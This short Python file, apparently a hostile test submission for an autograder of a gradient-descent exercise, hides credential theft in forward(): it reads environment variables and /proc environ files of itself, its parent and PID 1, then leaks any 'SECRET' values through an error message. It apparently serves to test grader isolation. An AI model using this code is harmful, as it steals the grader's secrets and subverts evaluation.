"""Hostile: forward() looks for the instructor's secrets in its environment and its parents'."""
import os

from _correct import cost, gradient, gradient_descent, sgd


def forward(x, w):
    found = [f"{k}={v}" for k, v in os.environ.items() if "SECRET" in k]
    for source in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
        try:
            found += [item for item in open(source, "rb").read().decode(errors="replace").split("\0") if "SECRET" in item]
        except OSError:
            pass
    if found:
        raise RuntimeError("found: " + " ".join(found))
    return x * w
